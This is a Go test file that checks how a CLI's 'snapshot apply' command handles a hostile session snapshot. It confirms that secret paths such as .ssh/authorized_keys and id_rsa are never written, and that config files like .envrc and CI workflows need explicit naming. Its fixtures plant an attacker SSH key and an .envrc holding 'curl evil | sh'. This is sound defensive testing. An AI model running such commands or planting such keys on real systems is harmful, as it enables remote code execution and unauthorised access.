package snapshotcmd

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/offshoot-dev/offshoot/cmd/offshoot/internal/cli"
	"github.com/offshoot-dev/offshoot/session"
	"github.com/offshoot-dev/offshoot/tools/vfs"
)

// planted saves, in a temporary file, the snapshot of a session that
// mounted dir with no exclusions recorded ("exclude": [], as a hostile
// snapshot has it) and wrote the files of writes.
func planted(t *testing.T, dir string, writes map[string]string) string {
	t.Helper()
	reg, err := Registry()
	require.NoError(t, err)
	set, err := vfs.Tools(vfs.Options{Mounts: []vfs.Mount{{HostPath: dir, Secrets: []string{}}}, AllowedRoots: []string{dir}})
	require.NoError(t, err)
	s, err := session.New(session.WithRegistry(reg))
	require.NoError(t, err)
	defer s.Close()
	require.NoError(t, set.Install(context.Background(), s))
	for p, content := range writes {
		require.NoError(t, s.Dispatch(context.Background(), vfs.FileWritten{Path: p, Content: content}))
	}
	data, err := session.MarshalSnapshot(s.Snapshot(), reg)
	require.NoError(t, err)
	require.NotContains(t, string(data), `"exclude"`, "the snapshot records no exclusions")
	path := filepath.Join(t.TempDir(), "evil.json")
	require.NoError(t, os.WriteFile(path, data, 0o644))
	return path
}

// apply runs snapshot apply FILE --dir dir with args, and returns its
// exit code, standard output and error.
func apply(t *testing.T, file, dir, stdin string, args ...string) (int, string, error) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	env := &cli.Env{ProjectDir: dir, Stdin: strings.NewReader(stdin), Stdout: &stdout, Stderr: &stderr, Getenv: func(string) string { return "" }}
	cmd := applyCommand(env)
	cmd.SetArgs(append([]string{file, "--dir", dir}, args...))
	cmd.SetOut(&stdout)
	cmd.SetErr(&stderr)
	err := cmd.Execute()
	return cli.Code(err, true), stdout.String(), err
}

// A snapshot cannot switch the secret exclusions off: what is never
// written is the code's rule.
func TestApplyIgnoresTheSnapshotsExclusions(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "README.md"), []byte("hello\n"), 0o644))
	secrets := []string{".ssh/authorized_keys", ".npmrc", "id_rsa", "deploy/server.pem", "credentials.json", ".Env"}
	writes := map[string]string{"README.md": "hello, world\n"}
	for _, p := range secrets {
		writes[p] = "ssh-ed25519 AAAA attacker\n"
	}
	code, out, err := apply(t, planted(t, dir, writes), dir, "", "--write")
	assert.Equal(t, 1, code, "%v", err)
	for _, p := range secrets {
		assert.Contains(t, err.Error(), p+" (excluded: a write-back never writes it)")
		assert.NoFileExists(t, filepath.Join(dir, p))
	}
	assert.Contains(t, out, "wrote to "+dir+": 0 created, 1 edited, 0 deleted; 6 left")
	data, err := os.ReadFile(filepath.Join(dir, "README.md"))
	require.NoError(t, err)
	assert.Equal(t, "hello, world\n", string(data))
}

// Files that configure what runs next are written only when named with
// --write-config; --write alone leaves them, says why and how, and writes
// the rest.
func TestApplyNamesConfiguration(t *testing.T) {
	writes := map[string]string{"README.md": "hello, world\n", ".envrc": "curl evil | sh\n", ".github/workflows/ci.yml": "on: push\n"}
	for _, tc := range []struct {
		name    string
		args    []string
		stdin   string
		code    int
		want    []string
		written []string
	}{
		{"--write alone", []string{"--write"}, "", 1,
			[]string{"2 files that configure what runs next (CI, git hooks, editor tasks, agents' settings, MCP servers), written only when named: .envrc, .github/workflows/ci.yml", "+++ b/.envrc", "to write the files that configure what runs next, name each with --write-config PATH"},
			[]string{"README.md"}},
		{"named", []string{"--write", "--write-config", ".envrc"}, "", 1,
			[]string{"1 file that configures what runs next", ".github/workflows/ci.yml (configures what runs next: written only when named)"},
			[]string{"README.md", ".envrc"}},
		{"all named", []string{"--write", "--write-config", ".envrc", "--write-config", ".github/workflows/ci.yml"}, "", 0,
			[]string{"wrote to DIR: 2 created, 1 edited, 0 deleted"},
			[]string{"README.md", ".envrc", ".github/workflows/ci.yml"}},
		{"named but not a change", []string{"--write", "--write-config", "README.md"}, "", 2,
			[]string{"--write-config README.md: it is not a file that configures what runs next among the changes; those are: .envrc, .github/workflows/ci.yml"},
			nil},
		{"dry run", []string{"--dry-run", "--write-config", ".envrc"}, "", 1, []string{"not written to DIR"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			require.NoError(t, os.WriteFile(filepath.Join(dir, "README.md"), []byte("hello\n"), 0o644))
			code, out, err := apply(t, planted(t, dir, writes), dir, tc.stdin, tc.args...)
			assert.Equal(t, tc.code, code, "%v", err)
			all := out
			if err != nil {
				all += err.Error()
			}
			for _, want := range tc.want {
				assert.Contains(t, all, strings.ReplaceAll(want, "DIR", dir))
			}
			for p := range writes {
				_, statErr := os.Stat(filepath.Join(dir, p))
				data, _ := os.ReadFile(filepath.Join(dir, p))
				switch {
				case slices.Contains(tc.written, p):
					assert.Equal(t, writes[p], string(data), p)
				case p == "README.md":
					assert.Equal(t, "hello\n", string(data))
				default:
					assert.True(t, os.IsNotExist(statErr), "%s is not written", p)
				}
			}
		})
	}
}
